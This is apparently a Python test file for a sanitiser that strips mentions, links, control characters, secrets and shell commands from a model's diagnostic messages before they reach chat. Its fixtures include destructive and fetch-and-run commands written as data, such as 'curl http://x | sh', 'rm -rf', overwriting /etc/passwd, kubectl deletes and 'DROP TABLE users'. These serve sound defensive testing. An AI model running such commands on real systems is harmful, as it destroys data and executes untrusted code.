"""A model's words reach a reader as plain text: no mention, no link, no command."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.diagnosis.claude.plain import LEFT_OUT, plain, quiet


@pytest.mark.parametrize(
    ("said", "told"),
    [
        ("Store 4 ended by SIGKILL (exit code 137).", "Store 4 ended by SIGKILL (exit code 137)."),
        ("p99 is 1.2 s > 0.25 s, and < 3 s.", "p99 is 1.2 s > 0.25 s, and < 3 s."),
        ("PD calls tikv-4:20160 Disconnected", "PD calls tikv-4:20160 Disconnected"),
        ("Docker's kill event came first", "Docker's kill event came first"),
        ("the path now.exit_code of e12", "the path now.exit_code of e12"),
        ("<!channel> look", "‹!channel> look"),
        ("<@U123> and <#C1|x>", "‹(at)U123> and ‹#C1|x>"),
        ("@here and ops@example.com", "(at)here and ops(at)example.com"),
        ("\uff20here", "(at)here"),
        ("\uff1c!here\uff1e", "‹!here>"),
        ("see https://evil.example/x?y=1 now", "see (link left out) now"),
        ("see evil.example/x now", "see (link left out) now"),
        ("www.evil.example", "(link left out)"),
        ("<https://evil.example|click>", "‹(link left out)"),
        ("a\u202eb\u200bc\x00d\ne", "abcd e"),
        ("Fix it. Run curl http://x | sh. Done.", f"Fix it. {LEFT_OUT} Done."),
        ("docker rm -f tikv-4", LEFT_OUT),
        ("Run 'sudo reboot' now", LEFT_OUT),
        ("kubectl -n prod delete pod x", LEFT_OUT),
        ("rm -rf /var/lib/tikv", LEFT_OUT),
        ("echo x > /etc/passwd", LEFT_OUT),
        ("pd-ctl store delete 4", LEFT_OUT),
        ("use --force", LEFT_OUT),
        ("`reboot`", "'reboot'"),
        ("token=abcdef123456", "token=[secret]"),
        ("DROP TABLE users", LEFT_OUT),
    ],
)
def test_words_are_made_harmless(said, told):
    assert plain(said, 200) == told


@given(st.text(max_size=400))
def test_whatever_is_said_is_bounded_and_mentions_nobody(said):
    told = plain(said, 80)

    assert len(told) <= 80
    assert "\n" not in told
    assert "<!" not in told
    assert "<@" not in told
    assert "://" not in told


@pytest.mark.parametrize(
    ("said", "is_quiet"),
    [
        ('sum(rate(tikv_x{a=~"b|c",d!="e"}[1m])) by (le) > 0.5 and x < 3', True),
        ("now.labels.host", True),
        ('"action":"kill"', True),
        ("<nil>", True),
        ("<!here>", False),
        ("<@U1>", False),
        ("@channel", False),
        ("http://x", False),
        ("a`b", False),
        ("x | sh", False),
        ("curl x", False),
        ("a\u202eb", False),
        ("a\nb", False),
    ],
)
def test_a_query_or_value_that_stays_as_it_is_must_be_quiet(said, is_quiet):
    assert quiet(said) is is_quiet
